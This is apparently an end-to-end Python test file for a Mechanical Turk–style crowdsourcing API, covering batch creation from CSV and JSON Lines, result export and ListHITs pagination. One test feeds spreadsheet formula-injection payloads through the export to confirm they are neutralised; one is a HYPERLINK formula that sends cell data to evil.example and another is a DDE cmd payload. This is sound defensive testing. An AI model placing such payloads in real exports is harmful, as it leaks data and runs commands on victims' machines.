"""CreateBatch from CSV and JSON Lines, GetBatchResults, and ListHITs pagination."""
import csv
import io
import json
import re
from decimal import Decimal as D

from harness import E2E, SAMPLE_QUESTION


def batch_body(rows, fmt="csv", **kw):
    b = {
        "Title": "Label sentences",
        "Description": "One sentence per HIT",
        "Reward": "0.10",
        "AssignmentDurationInSeconds": 600,
        "LifetimeInSeconds": 3600,
        "MaxAssignments": 1,
        "Question": SAMPLE_QUESTION,
        "Format": fmt,
        "Rows": rows,
    }
    b.update(kw)
    return b


class Batch(E2E):
    def test_csv_batch_and_results(self):
        rq = self.srv.requester("R", deposit="10.00")
        w = self.srv.worker("w")
        R = rq["token"]
        rows = 'text,id\nhello world,1\n"comma, inside",2\nthird one,3\n'
        b = self.ok("CreateBatch", batch_body(rows), R)
        self.assertEqual(b["NumHITs"], 3)
        self.assertEqual(len(b["HITIds"]), 3)
        self.assertEqual(len(set(b["HITIds"])), 3)
        # 3 * (0.10 + 0.02)
        self.assertEqual(self.balance(R), (D("9.64"), D("0.36")))
        self.assertEqual(self.ok("ListHITs", {}, R)["NumResults"], 3)
        for hid in b["HITIds"]:
            h = self.get_hit(hid, R)
            self.assertEqual(h["BatchId"], b["BatchId"])
            self.assertEqual(h["HITTypeId"], b["HITTypeId"])
            self.assertNotIn("${text}", h["Question"])

        work = self.ok("ListAvailableWork", {}, w["token"])["HITTypes"]
        self.assertEqual([(t["HITTypeId"], t["HITsAvailable"]) for t in work],
                         [(b["HITTypeId"], 3)])

        done = {}
        for _ in range(2):
            a = self.accept(w["token"], hit_type_id=b["HITTypeId"])
            got = self.ok("GetMyAssignment", {"AssignmentId": a["AssignmentId"]}, w["token"])
            text = got["Task"]["Input"]["text"]
            self.assertIn("<p>%s</p>" % text, got["Task"]["Content"])
            self.assertNotIn("${", got["Task"]["Content"])
            self.submit(w["token"], a["AssignmentId"], {"label": "L:" + text})
            done[a["AssignmentId"]] = (a["HITId"], got["Task"]["Input"])
        self.assertEqual(len({h for h, _ in done.values()}), 2)

        # The worker's pseudonym, as the requester knows it.
        pseud = set()
        for hid, _ in done.values():
            for a in self.ok("ListAssignmentsForHIT", {"HITId": hid}, R)["Assignments"]:
                pseud.add(a["WorkerId"])
        self.assertEqual(len(pseud), 1)
        pseud = pseud.pop()
        self.assertTrue(pseud.startswith("A"))

        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "jsonl"}, R)
        self.assertEqual(res["NumResults"], 2)
        lines = [json.loads(l) for l in res["Results"].splitlines() if l.strip()]
        self.assertEqual(len(lines), 2)
        for r in lines:
            self.assertIn(r["AssignmentId"], done)
            hid, inp = done[r["AssignmentId"]]
            self.assertEqual(r["HITId"], hid)
            self.assertEqual(r["WorkerId"], pseud)
            self.assertNotEqual(r["WorkerId"], str(w["id"]))
            self.assertEqual(r["AssignmentStatus"], "Submitted")
            self.assertEqual(r["Input"], inp)
            self.assertEqual(r["Answers"], {"label": "L:" + inp["text"]})

        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "csv"}, R)
        self.assertEqual(res["NumResults"], 2)
        table = list(csv.DictReader(io.StringIO(res["Results"], newline="")))
        self.assertEqual(len(table), 2)
        for col in ("HITId", "AssignmentId", "WorkerId", "Input.text", "Input.id",
                    "Answer.label"):
            self.assertIn(col, table[0])
        for r in table:
            hid, inp = done[r["AssignmentId"]]
            self.assertEqual(r["WorkerId"], pseud)
            self.assertEqual(r["Input.text"], inp["text"])
            self.assertEqual(r["Input.id"], inp["id"])
            self.assertEqual(r["Answer.label"], "L:" + inp["text"])

        # Someone else's batch does not exist for them.
        other = self.srv.requester("R2")
        self.err("GetBatchResults", {"BatchId": b["BatchId"]}, other["token"], 404)
        self.err("GetBatchResults", {"BatchId": b["BatchId"], "Format": "xml"}, R, 400)

    def test_csv_results_neutralise_formulas(self):
        """A cell a spreadsheet would run as a formula (=, +, -, @, tab, CR at its start)
        comes out of the CSV results with a leading "'"; plain numbers, other text and the
        JSON Lines results stay exactly as typed."""
        rq = self.srv.requester("R", deposit="10.00")
        w = self.srv.worker("w")
        R = rq["token"]
        hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=a,b", '="quoted"']
        plain = ["-3", "+2.5", "10", "0.75", "hello", "a=b", "it's", "- dash list", "-",
                 "", "1e5", "-.5"]
        expect = {v: "'" + v for v in hostile + ["- dash list", "-", "-.5"]}
        rows = "".join(json.dumps({"text": v, "gold": v}) + "\n" for v in hostile + plain)
        b = self.ok("CreateBatch", batch_body(rows, "jsonl"), R)
        n = len(hostile) + len(plain)
        self.assertEqual(b["NumHITs"], n)
        for _ in range(n):
            a = self.accept(w["token"], hit_type_id=b["HITTypeId"])
            got = self.ok("GetMyAssignment", {"AssignmentId": a["AssignmentId"]}, w["token"])
            text = got["Task"]["Input"]["text"]
            self.submit(w["token"], a["AssignmentId"], {"label": text, "multi": [text, "x"]})

        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "csv"}, R)
        table = list(csv.DictReader(io.StringIO(res["Results"], newline="")))
        self.assertEqual(len(table), n)
        seen = set()
        for r in table:
            v = next(x for x in hostile + plain if expect.get(x, x) == r["Input.text"])
            seen.add(v)
            want = expect.get(v, v)
            self.assertEqual(r["Input.gold"], want, repr(v))
            self.assertEqual(r["Answer.label"], want, repr(v))
            # A repeated field is one cell, judged by its start like any other.
            multi = v + "|x"
            self.assertEqual(r["Answer.multi"],
                             "'" + multi if multi[0] in "=+-@\t\r" else multi, repr(v))
            for cell in r.values():
                self.assertTrue(cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
                                or re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell),
                                "a formula reaches the spreadsheet: %r" % cell)
        self.assertEqual(seen, set(hostile + plain))

        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"], "Format": "jsonl"}, R)
        lines = [json.loads(l) for l in res["Results"].splitlines() if l.strip()]
        self.assertEqual(sorted(l["Answers"]["label"] for l in lines), sorted(hostile + plain))
        self.assertEqual(sorted(l["Input"]["text"] for l in lines), sorted(hostile + plain))

    def test_jsonl_batch(self):
        rq = self.srv.requester("R", deposit="10.00")
        w = self.srv.worker("w")
        R = rq["token"]
        rows = '{"text":"alpha"}\n{"text":"beta & gamma"}\n'
        b = self.ok("CreateBatch", batch_body(rows, "jsonl", MaxAssignments=2), R)
        self.assertEqual(b["NumHITs"], 2)
        self.assertEqual(self.balance(R), (D("9.52"), D("0.48")))
        texts = set()
        for _ in range(2):
            a = self.accept(w["token"], hit_type_id=b["HITTypeId"])
            got = self.ok("GetMyAssignment", {"AssignmentId": a["AssignmentId"]}, w["token"])
            texts.add(got["Task"]["Input"]["text"])
            self.submit(w["token"], a["AssignmentId"], {"label": "x"})
        self.assertEqual(texts, {"alpha", "beta & gamma"})
        res = self.ok("GetBatchResults", {"BatchId": b["BatchId"]}, R)
        self.assertEqual(res["Format"], "jsonl")
        lines = [json.loads(l) for l in res["Results"].splitlines() if l.strip()]
        self.assertEqual(sorted(l["Input"]["text"] for l in lines), ["alpha", "beta & gamma"])

    def test_bad_batches_change_nothing(self):
        rq = self.srv.requester("R", deposit="1.00")
        R = rq["token"]
        cases = [
            ("placeholder names no column", batch_body("other\nx\n")),
            ("unknown format", batch_body("text\nx\n", "xlsx")),
            ("bad jsonl", batch_body('{"text":"x"}\n{not json}\n', "jsonl")),
            ("unclosed placeholder",
             batch_body("text\nx\n", Question=SAMPLE_QUESTION.replace("${text}", "${text"))),
            ("unknown member", {**batch_body("text\nx\n"), "Colour": "red"}),
        ]
        for name, body in cases:
            with self.subTest(name):
                self.err("CreateBatch", body, R, 400)
        with self.subTest("too expensive"):
            rows = "text\n" + "".join("r%d\n" % i for i in range(9))  # 9 * 0.12 = 1.08
            self.err("CreateBatch", batch_body(rows), R, 402, "InsufficientFunds")
        self.assertEqual(self.balance(R), (D("1.00"), D("0.00")))
        self.assertEqual(self.ok("ListHITs", {}, R)["NumResults"], 0)


class Pagination(E2E):
    def test_list_hits_pages(self):
        rq = self.srv.requester("R", deposit="20.00")
        R = rq["token"]
        created = [self.create_hit(R, RequesterAnnotation="n%d" % i)["HITId"]
                   for i in range(7)]
        seen, pages, token = [], 0, None
        while True:
            body = {"MaxResults": 2}
            if token:
                body["NextToken"] = token
            page = self.ok("ListHITs", body, R)
            pages += 1
            self.assertLessEqual(page["NumResults"], 2)
            self.assertEqual(page["NumResults"], len(page["HITs"]))
            seen += [h["HITId"] for h in page["HITs"]]
            token = page.get("NextToken")
            if not token:
                break
            self.assertLess(pages, 10, "NextToken never ends")
        self.assertEqual(pages, 4)
        self.assertEqual(len(seen), len(set(seen)), "duplicates across pages")
        self.assertEqual(set(seen), set(created))
        # Exactly MaxResults on the last page: no empty extra page is needed.
        full = self.ok("ListHITs", {"MaxResults": 7}, R)
        self.assertEqual(full["NumResults"], 7)
        self.assertNotIn("NextToken", full)
        for bad in ({"MaxResults": 0}, {"MaxResults": 101}, {"MaxResults": "2"},
                    {"NextToken": "garbage"}, {"NextToken": 5}):
            with self.subTest(bad=bad):
                self.err("ListHITs", bad, R, 400)
